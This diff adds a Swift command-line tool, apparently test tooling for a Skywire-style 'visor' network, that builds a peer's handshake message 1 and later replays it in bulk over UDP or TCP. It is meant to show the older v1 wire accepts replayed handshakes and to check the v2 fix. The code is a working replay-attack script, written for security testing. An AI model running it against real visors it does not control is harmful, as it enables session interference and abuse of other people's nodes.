@@ -1,0 +1,125 @@
+import ArgumentParser
+import SkywireConfig
+import SkywireCrypto
+import SkywireWire
+#if canImport(Glibc)
+import Glibc
+#endif
+
+/// `replay`: the replayed handshake of issue 16. `replay make` builds key K's message 1 to a visor
+/// now (time T0) with K's secret from K's config file, as a capture of K's first packet would
+/// hold it, and saves its bytes; `replay send` resends those bytes later, after K's live session
+/// exists: sudph Initiations from any address, or stcpr message-1 records on fresh TCP
+/// connections that it keeps open (`--hold`) so that anything they created stays visible.
+struct Replay: ParsableCommand {
+    static let configuration = CommandConfiguration(
+        commandName: "replay",
+        abstract: "Build key K's handshake message 1 now and resend it later (a replayed handshake).",
+        subcommands: [Make.self, Send.self])
+
+    enum Transport: String, ExpressibleByArgument { case sudph, stcpr }
+    /// `v2` is the current wire (PROTOCOL.md §2: stamp, mac1); `v1` the wire before it, to show
+    /// that the unchanged visor is vulnerable.
+    enum Wire: String, ExpressibleByArgument { case v1, v2 }
+
+    /// The v1 identity claim (version 0x01, no stamp) and its message-1 size.
+    static let v1ClaimVersion: UInt8 = 0x01
+
+    struct Make: ParsableCommand {
+        static let configuration = CommandConfiguration(abstract: "Build K's message 1 to --remote-pk and save it.")
+        @Option(help: "K's visor config file (its secret key signs nothing; it only builds message 1).")
+        var config: String
+        @Option(help: "The attacked visor's public key (64 hex).")
+        var remotePk: String
+        @Option(help: "sudph (a whole Initiation packet) or stcpr (one length-prefixed record).")
+        var transport: Transport
+        @Option(help: "v2 (current) or v1 (before replay protection).")
+        var wire: Wire = .v2
+        @Option(help: "Where to write the bytes.")
+        var out: String
+
+        func run() throws {
+            let keys = try VisorConfig.load(path: config).keyPair
+            let remote = try PublicKey(hex: remotePk)
+            let hs = try NoiseHandshake.ikInitiator(identity: keys, remote: remote)
+            let payload = wire == .v2 ? IdentityClaim.encode(keys.publicKey, timestamp: .now())
+                                      : [Replay.v1ClaimVersion] + keys.publicKey.bytes
+            let message = try hs.writeMessage(payload: payload)
+            let mac1Key = HandshakeMAC.mac1Key(responderStatic: try remote.x25519())
+            var bytes: [UInt8]
+            switch (transport, wire) {
+            case (.stcpr, .v2):
+                let body = message + HandshakeMAC.mac(key: mac1Key, message)
+                bytes = [UInt8(body.count >> 8), UInt8(body.count & 0xff)] + body
+            case (.stcpr, .v1):
+                bytes = [UInt8(message.count >> 8), UInt8(message.count & 0xff)] + message
+            case (.sudph, .v2):
+                bytes = try message.withUnsafeBytes { try SudphPacket.initiation(senderIndex: UInt32.random(in: 1...UInt32.max), message: $0) }
+                bytes.replaceSubrange(SudphLayout.mac1Offset..<SudphLayout.mac2Offset,
+                                      with: HandshakeMAC.mac(key: mac1Key, Array(bytes[0..<SudphLayout.mac1Offset])))
+            case (.sudph, .v1):
+                let index = UInt32.random(in: 1...UInt32.max)
+                bytes = [SudphPacketType.initiation.rawValue, 0, 0, 0,
+                         UInt8(index >> 24), UInt8((index >> 16) & 0xff), UInt8((index >> 8) & 0xff), UInt8(index & 0xff)] + message
+            }
+            guard let file = fopen(out, "wb") else { throw HostileSocket.Failure(description: "cannot write \(out)") }
+            defer { fclose(file) }
+            guard fwrite(bytes, 1, bytes.count, file) == bytes.count else { throw HostileSocket.Failure(description: "short write to \(out)") }
+            print("{\"bytes\":\(bytes.count),\"transport\":\"\(transport.rawValue)\",\"wire\":\"\(wire.rawValue)\"}")
+        }
+    }
+
+    struct Send: ParsableCommand {
+        static let configuration = CommandConfiguration(abstract: "Resend saved message-1 bytes COUNT times.")
+        @Option(help: "The bytes `replay make` saved.")
+        var file: String
+        @Option(help: "The attacked visor's HOST:PORT (an IP literal).")
+        var target: String
+        @Option(help: "sudph or stcpr (as made).")
+        var transport: Transport
+        @Option(help: "How many times (at most 1000).")
+        var count: Int = 20
+        @Option(help: "Seconds between two sends.")
+        var interval: Double = 0.05
+        @Option(help: "stcpr: seconds to keep the connections open after the last send (at most 60).")
+        var hold: Double = 3
+
+        static let maxCount = 1000
+        static let maxHoldSeconds = 60.0
+        static let message2RecordLength = 2 + IdentityClaim.message2Length
+
+        func run() throws {
+            guard let handle = fopen(file, "rb") else { throw HostileSocket.Failure(description: "cannot read \(file)") }
+            var bytes = [UInt8](repeating: 0, count: 4096)
+            let n = fread(&bytes, 1, bytes.count, handle)
+            fclose(handle)
+            bytes = Array(bytes[0..<n])
+            let to = try HostileSocket.address(target)
+            let times = max(0, min(count, Self.maxCount))
+            var answered = 0
+            switch transport {
+            case .sudph:
+                let fd = try HostileSocket.udp(for: to)
+                defer { HostileSocket.close(fd) }
+                for _ in 0..<times {
+                    HostileSocket.send(fd, bytes, to: to)
+                    HostileSocket.sleep(seconds: interval)
+                }
+                HostileSocket.sleep(seconds: 0.5)
+                answered = HostileSocket.drain(fd).filter { $0 == SudphLayout.responsePacketSize }.count
+            case .stcpr:
+                var sockets: [Int32] = []
+                defer { sockets.forEach(HostileSocket.close) }
+                for _ in 0..<times {
+                    let fd = try HostileSocket.tcp(to: to, timeoutSeconds: 2)
+                    sockets.append(fd)
+                    _ = bytes.withUnsafeBytes { Glibc.send(fd, $0.baseAddress, $0.count, Int32(MSG_NOSIGNAL)) }
+                    if HostileSocket.read(fd, count: Self.message2RecordLength).count == Self.message2RecordLength { answered += 1 }
+                    HostileSocket.sleep(seconds: interval)
+                }
+                HostileSocket.sleep(seconds: min(max(hold, 0), Self.maxHoldSeconds))
+            }
+            print("{\"sent\":\(times),\"answered\":\(answered),\"transport\":\"\(transport.rawValue)\"}")
+        }
+    }
+}
